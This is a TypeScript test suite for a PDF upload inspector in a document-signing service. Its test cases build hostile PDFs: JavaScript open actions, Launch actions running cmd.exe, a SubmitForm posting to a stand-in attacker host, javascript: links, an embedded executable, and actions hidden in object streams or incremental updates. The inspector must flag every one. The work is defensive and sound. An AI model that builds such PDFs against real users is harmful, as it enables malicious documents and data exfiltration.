import { beforeAll, describe, expect, it } from 'vitest';
import { renderAgreementPdf } from './agreement-pdf.ts';
import { appendUpdate, documentWith, encrypted, packedDocument, pdfOf, utf8 } from './hostile-pdfs.ts';
import { signPdf } from './pades.ts';
import { inspectPdf } from './pdf-inspect.ts';
import { createCertificateAuthority, issuePartyCertificate } from './pki.ts';
import { sampleAgreement } from './test-fixtures.ts';

const js = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const annotation = (action: string, subtype = 'Link') =>
  `<< /Type /Annot /Subtype /${subtype} /Rect [72 72 200 100] /A ${action} >>`;

let agreement: Uint8Array;
beforeAll(async () => {
  agreement = await renderAgreementPdf(sampleAgreement);
});

type Case = { name: string; build: () => Uint8Array | Promise<Uint8Array>; expected: [string, RegExp][] };

// Each case: the file, and the problems (code and English text) the inspection must report.
const cases: Case[] = [
  { name: 'a plain hand-built PDF', build: () => documentWith(), expected: [] },
  {
    name: 'a link to a web address and an internal GoTo',
    build: () =>
      documentWith({
        page: '/Annots [5 0 R] /AA << /O << /S /GoTo /D [3 0 R /Fit] >> >>',
        extra: [annotation('<< /S /URI /URI (https://example.com/a) >>')],
      }),
    expected: [],
  },
  {
    name: 'JavaScript as the open action',
    build: () => documentWith({ catalog: `/OpenAction ${js}` }),
    expected: [['document.active_content', /^The document has a JavaScript action$/]],
  },
  {
    name: 'JavaScript as an indirect open action, its name hex-escaped',
    build: () =>
      documentWith({ catalog: '/OpenAction 5 0 R', extra: ['<< /S /J#61vaScript /JS 6 0 R >>', '(x)'] }),
    expected: [['document.active_content', /^The document has a JavaScript action$/]],
  },
  {
    name: 'a JavaScript name tree',
    build: () =>
      documentWith({
        catalog: '/Names << /JavaScript 5 0 R >>',
        extra: ['<< /Names [(init) 6 0 R] >>', js],
      }),
    expected: [
      ['document.active_content', /^The document has document-level JavaScript \(names tree\)$/],
      ['document.active_content', /^The document has a JavaScript action$/],
    ],
  },
  {
    name: 'a Launch action when page 1 opens',
    build: () => documentWith({ page: '/AA << /O << /S /Launch /F (cmd.exe) >> >>' }),
    expected: [['document.active_content', /^Page 1 has a Launch action/]],
  },
  {
    name: 'a SubmitForm action on a widget',
    build: () =>
      documentWith({
        page: '/Annots [5 0 R]',
        extra: [annotation('<< /S /SubmitForm /F (https://evil.example/collect) >>', 'Widget')],
      }),
    expected: [['document.active_content', /^Page 1 annotation has a SubmitForm action/]],
  },
  {
    name: 'JavaScript in the additional actions of an annotation on page 3',
    build: () =>
      documentWith({
        pages: 3,
        page: '/Annots [7 0 R]',
        extra: [`<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /AA << /K ${js} >> >>`],
      }),
    expected: [['document.active_content', /^Page 3 annotation has a JavaScript action$/]],
  },
  {
    name: 'a javascript: link, a chained ImportData and a GoToR',
    build: () =>
      documentWith({
        page: '/Annots [5 0 R 6 0 R]',
        extra: [
          annotation('<< /S /URI /URI (javascript:alert\\(1\\)) /Next << /S /ImportData /F (x.fdf) >> >>'),
          annotation('<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>'),
        ],
      }),
    expected: [
      ['document.active_content', /^Page 1 annotation has a link to "javascript:alert\(1\)"$/],
      ['document.active_content', /^Page 1 annotation has an ImportData action/],
      ['document.active_content', /^Page 1 annotation has a GoToR action/],
    ],
  },
  {
    name: 'an embedded file',
    build: () =>
      documentWith({
        catalog: '/Names << /EmbeddedFiles << /Names [(run.exe) 5 0 R] >> >>',
        extra: [
          '<< /Type /Filespec /F (run.exe) /UF (run.exe) /EF << /F 6 0 R >> >>',
          '<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream',
        ],
      }),
    expected: [['document.active_content', /^The document has an embedded file "run.exe"$/]],
  },
  {
    name: 'rich media and an XFA form',
    build: () =>
      documentWith({
        catalog: '/AcroForm << /Fields [] /XFA 6 0 R >>',
        page: '/Annots [5 0 R]',
        extra: ['<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>', '(<xdp/>)'],
      }),
    expected: [
      ['document.active_content', /^Page 1 annotation has multimedia content \(RichMedia\)$/],
      ['document.active_content', /^The document has an XFA form$/],
    ],
  },
  {
    name: 'a Launch action on an outline item',
    build: () =>
      documentWith({
        catalog: '/Outlines 5 0 R',
        extra: [
          '<< /Type /Outlines /First 6 0 R /Last 6 0 R /Count 1 >>',
          '<< /Title (Go) /Parent 5 0 R /A << /S /Launch /F (x) >> >>',
        ],
      }),
    expected: [['document.active_content', /^The document has a Launch action/]],
  },
  {
    name: 'a calculate script on a form field, a Hide action and an uppercase JAVASCRIPT: link',
    build: () =>
      documentWith({
        catalog: '/AcroForm << /Fields [5 0 R] >>',
        page: '/Annots [6 0 R]',
        extra: [
          `<< /FT /Tx /T (total) /AA << /C ${js} >> /Kids [] >>`,
          annotation('<< /S /Hide /T (total) /Next << /S /URI /URI ( JAVASCRIPT:void\\(0\\)) >> >>'),
        ],
      }),
    expected: [
      ['document.active_content', /^The document has a JavaScript action$/],
      ['document.active_content', /^Page 1 annotation has a Hide action$/],
      ['document.active_content', /^Page 1 annotation has a link to " JAVASCRIPT:void\(0\)"$/],
    ],
  },
  {
    name: 'a Rendition action carrying a script',
    build: () => documentWith({ catalog: '/OpenAction << /S /Rendition /OP 0 /JS (app.alert\\(1\\)) >>' }),
    expected: [
      ['document.active_content', /^The document has a Rendition action$/],
      ['document.active_content', /^The document has a JavaScript action$/],
    ],
  },
  {
    name: 'JavaScript in an object nothing refers to',
    build: () => documentWith({ extra: [js] }),
    expected: [['document.active_content', /^Object 5 has a JavaScript action$/]],
  },
  {
    name: 'JavaScript open action inside a compressed object stream',
    build: () => packedDocument({ openAction: true }),
    expected: [['document.active_content', /^The document has a JavaScript action$/]],
  },
  {
    name: 'JavaScript left loose in a compressed object stream',
    build: () => packedDocument({ loose: true }),
    expected: [['document.active_content', /^Object \d+ has a JavaScript action$/]],
  },
  {
    name: 'JavaScript hidden in an earlier revision by a later update',
    build: () =>
      appendUpdate(documentWith({ catalog: `/OpenAction ${js}` }), {
        1: '<< /Type /Catalog /Pages 2 0 R >>',
      }),
    expected: [['document.active_content', /^The document has a JavaScript action$/]],
  },
  {
    name: 'an incremental update that adds a Launch action',
    build: () =>
      appendUpdate(documentWith(), {
        1: '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (x) >> >>',
      }),
    expected: [['document.active_content', /^The document has a Launch action/]],
  },
  {
    name: 'the first 200 bytes of a PDF',
    build: () => documentWith().subarray(0, 200),
    expected: [['document.truncated', /incomplete/]],
  },
  {
    name: 'the first 200 bytes of the agreement PDF',
    build: () => agreement.subarray(0, 200),
    expected: [['document.truncated', /incomplete/]],
  },
  {
    name: 'a truncated PDF with %%EOF put back (no xref)',
    build: () => new Uint8Array([...documentWith().subarray(0, 260), ...utf8('\n%%EOF\n')]),
    expected: [['document.damaged', /damaged/]],
  },
  {
    name: 'no pages',
    build: () => pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>']),
    expected: [['document.empty', /no pages/]],
  },
  {
    name: 'encrypted',
    build: () => encrypted(documentWith()),
    expected: [['document.encrypted', /encrypted/]],
  },
  {
    name: 'garbage bytes',
    build: () => new Uint8Array(Array.from({ length: 4096 }, (_, index) => (index * 7919) % 251)),
    expected: [['document.not_pdf', /not a PDF/]],
  },
  {
    name: 'a PDF header over garbage',
    build: () => utf8('%PDF-1.7\n garbage without objects\n%%EOF\n'),
    expected: [['document.unreadable', /cannot be read/]],
  },
  { name: 'the generated agreement PDF', build: () => agreement, expected: [] },
];

describe('inspectPdf: the PDFs an upload for signing may and may not be', () => {
  it.each(cases)('$name', async ({ build, expected }) => {
    const problems = await inspectPdf(await build());
    const found = problems.map((problem) => [problem.code, problem.en]);
    expect(found).toEqual(
      expect.arrayContaining(expected.map(([code, en]) => [code, expect.stringMatching(en)])),
    );
    expect(found).toHaveLength(expected.length);
    for (const problem of problems) expect(problem.zh).toMatch(/[\u4e00-\u9fff]/);
  });

  it('names the page and the annotation in Chinese', async () => {
    const problems = await inspectPdf(
      documentWith({
        pages: 3,
        page: '/Annots [7 0 R]',
        extra: [annotation(js)],
      }),
    );
    expect(problems.map((problem) => problem.zh)).toEqual(['第 3 页的注释含有 JavaScript 动作']);
  });

  it('refuses a PDF already signed under another CA', async () => {
    const foreignCa = await createCertificateAuthority({ commonName: 'Other CA', organization: 'Elsewhere' });
    const party = await issuePartyCertificate(foreignCa, {
      commonName: 'Someone',
      organization: 'Elsewhere',
    });
    const signed = await signPdf(agreement, {
      key: party.privateKey,
      certificate: party.certificateDer,
      chain: [foreignCa.certificateDer],
      reason: 'approve',
      location: 'elsewhere',
      signerName: 'Someone',
    });
    const problems = await inspectPdf(signed);
    expect(problems.map((problem) => problem.code)).toEqual(['document.already_signed']);
  });
});
